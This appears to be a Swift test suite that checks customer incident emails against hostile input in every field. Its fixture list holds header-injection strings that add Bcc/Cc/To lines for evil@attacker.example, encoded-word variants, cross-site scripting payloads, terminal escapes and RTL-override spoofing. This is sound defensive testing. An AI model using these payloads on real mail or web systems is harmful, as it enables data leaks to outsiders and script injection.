import CrisisTestSupport
@testable import CustomerDelivery
import Foundation
import IncidentModel
import Testing

/// Issue 14, text as data: whatever people typed into a title, a customer's name, a briefing, a reason, a
/// contact or a workaround, the message has exactly its own headers (`sendmail -t` sends to every To, Cc and
/// Bcc it finds, so one injected line is a data leak) and its HTML has no script, handler or link from the text.
@Suite(.enabled(if: MailReader.isAvailable, "python3 is not installed: apt-get install python3"))
struct MailHostileTextTests {
    /// Header injection in every shape a line break can take, planted encoded words, markup that would run
    /// or load, terminal escapes, and a word no line can fold.
    static let hostile: [String] = [
        "x\r\nBcc: evil@attacker.example", "x\nBcc: evil@attacker.example", "x\rBcc: evil@attacker.example",
        "x\u{85}Bcc: evil@attacker.example", "x\u{2028}Cc: evil@attacker.example",
        "x\u{2029}To: evil@attacker.example", "x\u{0B}\u{0C}Bcc: evil@attacker.example",
        "x\r\n\r\n<html>a body of its own", "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
        "=?utf-8?q?x=0D=0ABcc:_evil@attacker.example?=", "=?utf-8?b?eA0KQmNjOiBldmlsQGF0dGFja2VyLmV4YW1wbGU=?=",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">click</a>",
        "</style><script>alert(2)</script>", "<!-- open comment <!--", "\"><svg onload=alert(1)>",
        "' onmouseover='alert(1)", "<\u{0338}script>alert(3)</script>", "</title><script>alert(4)</script>",
        "\u{1B}[2J\u{1B}]0;pwned\u{07}\u{9B}2J", "pay \u{202E}fdp.exe invoice\u{200B}", "nul\u{0}byte",
        String(repeating: "A", count: 2000),
    ]

    enum Field: String, CaseIterable, Sendable {
        case title, customer, text, impact, reason, contactName, contactPhone, workaround

        var isOneLine: Bool { ![.text, .impact, .workaround].contains(self) }
    }

    static func notice(_ field: Field, _ value: String) -> CustomerNotice {
        let contact = CustomerContact(name: "Raj Patel", phone: "+49 30 1234 5678")
        switch field {
        case .title: return MailFixture.briefing(title: value)
        case .customer: return MailFixture.briefing(customer: value)
        case .text: return MailFixture.briefing(text: value)
        case .impact: return MailFixture.briefing(impact: value)
        case .reason: return MailFixture.briefing(reason: value)
        case .contactName: return MailFixture.briefing(contact: CustomerContact(name: value, phone: contact.phone))
        case .contactPhone: return MailFixture.briefing(contact: CustomerContact(name: contact.name, phone: value))
        case .workaround: return MailFixture.briefing(workarounds: ["Pay by invoice", value])
        }
    }

    /// Tags the template uses; anything else came from the text.
    static let templateTags: Set = ["html", "head", "meta", "title", "body", "table", "tr", "td", "h1", "p", "br",
                                    "strong", "ul", "li"]

    @Test(arguments: Field.allCases)
    func hostileTextAddsNoHeaderAndNoMarkup(field: Field) throws {
        let directory = try TemporaryDirectory()
        let messages = Self.hostile.map { MailFixture.message(Self.notice(field, $0)) }
        let mails = try MailReader.parse(messages, in: directory)
        #expect(mails.count == Self.hostile.count)
        for (mail, value) in zip(mails, Self.hostile) {
            let label = "\(field) = \(value.debugDescription.prefix(60))"
            #expect(mail.headerNames == MailFixture.briefingHeaders, "\(label)")
            #expect(mail.headers["to"] == ["Jane Doe <jane@customer.example>"], "\(label)")
            #expect(mail.defects == [], "\(label)")
            #expect(mail.contentTypes == ["multipart/alternative", "text/plain", "text/html"], "\(label)")
            #expect(mail.longestLine <= 78, "\(label)")
            // Byte for byte: every header line is a known field or the continuation of one; no CR at all.
            #expect(!mail.rawBytes.contains(0x0D), "\(label)")
            for line in mail.rawHeaderLines {
                let name = line.prefix { $0 != ":" }
                #expect(line.hasPrefix(" ") || MailFixture.briefingHeaders.contains(String(name)), "\(label): \(line)")
            }
            for value in mail.headers.values.flatMap({ $0 }) {
                #expect(!value.unicodeScalars.contains { $0.value < 0x20 || (0x7F..<0xA0).contains($0.value) },
                        "\(label): a control in a decoded header")
            }
            let html = try #require(mail.html), text = try #require(mail.text)
            for tag in mail.htmlTags {
                #expect(Self.templateTags.contains(tag.tag), "\(label): <\(tag.tag)> from the text")
                for attribute in tag.attributes {
                    #expect(!attribute[0].hasPrefix("on"), "\(label): \(attribute[0]) attribute")
                    #expect(!["href", "src", "action"].contains(attribute[0]), "\(label): \(attribute[0]) attribute")
                    #expect(!attribute[1].lowercased().contains("javascript:"), "\(label)")
                }
            }
            #expect(mail.htmlComments == 0, "\(label)")
            #expect(!html.lowercased().contains("<script"), "\(label)")
            #expect(!html.lowercased().contains("<svg"), "\(label)")
            // One-line fields stay one line in the plain part too (the text, impact and workarounds keep
            // their line breaks, inside the base64 of their part, where they are harmless).
            if field.isOneLine {
                #expect(!text.split(separator: "\n").contains { $0.hasPrefix("Bcc:") || $0.hasPrefix("Content-Type:") },
                        "\(label)")
            }
            #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D || $0.value == 0x202E },
                    "\(label)")
        }
    }

    @Test func aPlantedEncodedWordStaysLiteralText() throws {
        let planted = "=?utf-8?q?x=0D=0ABcc:_evil@attacker.example?="
        let mail = try MailReader.parse(MailFixture.message(MailFixture.briefing(title: planted)))
        #expect(mail.header("Subject")?.contains(planted) == true)
        #expect(mail.text?.hasPrefix(planted + "\n") == true)
    }

    @Test func markupInTheTextIsShownAsTheCharactersTyped() throws {
        let typed = "<script>alert(1)</script> & <img src=x onerror=alert(1)>"
        let mail = try MailReader.parse(MailFixture.message(MailFixture.briefing(text: typed)))
        #expect(mail.text?.contains(typed) == true)
        #expect(mail.html?.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;img src=x onerror=alert(1)&gt;") == true)
    }
}
